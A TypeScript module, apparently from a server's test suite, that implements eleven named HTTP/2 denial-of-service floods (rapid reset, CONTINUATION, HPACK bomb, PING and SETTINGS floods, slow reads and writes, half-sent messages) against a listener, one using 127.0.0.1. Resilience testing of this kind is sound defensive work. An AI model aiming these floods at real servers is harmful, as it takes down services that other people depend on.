/** Floods of HTTP/2, by the names under which they are known. */
import { connect } from "node:http2";
import type { Socket } from "node:net";
import {
  callFields,
  FLAG,
  FRAME,
  formatFields,
  formatFrame,
  formatSettings,
  PREFACE,
  partOfMessage,
  SETTING,
} from "../../support/http2-frames.ts";
import { type PeerTarget, pump, tryOpenPeer } from "../../support/raw-peer.ts";

export interface Http2Flood {
  readonly name: string;
  /** Sends it to a listener until the time is over. `path` is that of a method that the listener has. */
  readonly run: (target: PeerTarget, path: string, endAt: number) => Promise<void>;
}

const OPENING = Buffer.concat([PREFACE, formatSettings()]);
const FRAMES_PER_PIECE = 500;
/** In a row, as HTTP/2 wants the streams of a client. */
const streamId = (index: number) => 2 * index + 1;
const repeated = (frame: Buffer) => Buffer.concat(Array<Buffer>(FRAMES_PER_PIECE).fill(frame));

function headers(stream: number, block: Buffer, flags: number = FLAG.END_HEADERS): Buffer {
  return formatFrame({ type: FRAME.HEADERS, flags, stream, payload: block });
}

/** The same bytes again and again, after a call was opened. */
function sameAgain(piece: (path: string) => Buffer, opened: (path: string) => Buffer = () => Buffer.alloc(0)) {
  return (target: PeerTarget, path: string, endAt: number) => {
    const again = piece(path);
    return pump(target, () => ({ opening: Buffer.concat([OPENING, opened(path)]), next: () => again }), endAt);
  };
}

/** Calls one after the other, each as its frames. */
function calls(framesOf: (stream: number, path: string) => Buffer, { reads = true, opening = OPENING } = {}) {
  return (target: PeerTarget, path: string, endAt: number) => {
    const next = (index: number) => {
      const streams = Array.from({ length: FRAMES_PER_PIECE }, (_, i) => streamId(index * FRAMES_PER_PIECE + i));
      return Buffer.concat(streams.map((stream) => framesOf(stream, path)));
    };
    return pump(target, () => ({ opening, next, reads }), endAt);
  };
}

const LARGE_FIELD = formatFields([["x-large", "x".repeat(4_000)]], true);
/** The field that was added to the dynamic table last. */
const NEWEST_FIELD = 0x80 | 62;

export const HTTP2_FLOODS: readonly Http2Flood[] = [
  {
    name: "rapid reset",
    run: calls((stream, path) =>
      Buffer.concat([
        headers(stream, callFields(path)),
        formatFrame({ type: FRAME.RST_STREAM, stream, payload: Buffer.from([0, 0, 0, 8]) }),
      ]),
    ),
  },
  {
    name: "CONTINUATION",
    run: sameAgain(
      () => repeated(formatFrame({ type: FRAME.CONTINUATION, stream: 1, payload: formatFields([["x", "y"]]) })),
      (path) => headers(1, callFields(path), 0),
    ),
  },
  { name: "PING", run: sameAgain(() => repeated(formatFrame({ type: FRAME.PING, payload: Buffer.alloc(8) }))) },
  {
    name: "PING whose answers stay unread",
    run: (target, _, endAt) => {
      const again = repeated(formatFrame({ type: FRAME.PING, payload: Buffer.alloc(8) }));
      return pump(target, () => ({ opening: OPENING, next: () => again, reads: false }), endAt);
    },
  },
  { name: "SETTINGS", run: sameAgain(() => repeated(formatSettings({ [SETTING.HEADER_TABLE_SIZE]: 4_096 }))) },
  {
    name: "empty DATA",
    run: sameAgain(
      () => repeated(formatFrame({ type: FRAME.DATA, stream: 1 })),
      (path) => headers(1, callFields(path)),
    ),
  },
  {
    name: "HPACK",
    run: (target, path, endAt) => {
      const bomb = Buffer.concat([callFields(path), Buffer.alloc(8_000, NEWEST_FIELD)]);
      const first = headers(1, Buffer.concat([callFields(path), LARGE_FIELD]));
      const next = (index: number) => headers(streamId(index + 1), bomb);
      return pump(target, () => ({ opening: Buffer.concat([OPENING, first]), next }), endAt);
    },
  },
  {
    name: "slow reads",
    run: calls((stream, path) => headers(stream, callFields(path)), {
      reads: false,
      opening: Buffer.concat([PREFACE, formatSettings({ [SETTING.INITIAL_WINDOW_SIZE]: 0 })]),
    }),
  },
  {
    name: "idle streams",
    run: calls((stream, path) => headers(stream, callFields(path))),
  },
  { name: "half-sent messages", run: halfSent },
  { name: "slow writes", run: (target, path, endAt) => trickled(target, headers(1, callFields(path)), endAt) },
];

const HALF_SENT = 60;
const MESSAGE_BYTES = 4_000_000;
const PART = partOfMessage(MESSAGE_BYTES, MESSAGE_BYTES - 1_000);

/** Most of a message on each of many streams, as fast as the server takes it. */
async function halfSent({ port, isTls }: PeerTarget, path: string, endAt: number): Promise<void> {
  const session = connect(`${isTls ? "https" : "http"}://127.0.0.1:${port}`, { rejectUnauthorized: false });
  session.on("error", () => undefined);
  for (let index = 0; index < HALF_SENT && !session.destroyed; index++) {
    const head = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };
    const stream = session.request(head).on("error", () => undefined);
    stream.write(PART);
  }
  await new Promise((resolve) => setTimeout(resolve, Math.max(0, endAt - performance.now())));
  session.destroy();
}

const SLOW_CONNECTIONS = 300;

/** Many connections, each of which sends a byte now and then. */
async function trickled(target: PeerTarget, request: Buffer, endAt: number): Promise<void> {
  const bytes = Buffer.concat([OPENING, request]);
  const opened = await Promise.all(Array.from({ length: SLOW_CONNECTIONS }, () => tryOpenPeer(target)));
  const sockets = opened.filter((socket): socket is Socket => socket !== undefined);
  for (const socket of sockets) socket.resume();
  for (let at = 0; performance.now() < endAt; at++) {
    for (const socket of sockets)
      if (!socket.destroyed) socket.write(bytes.subarray(at % bytes.length, (at % bytes.length) + 1));
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  for (const socket of sockets) socket.destroy();
}
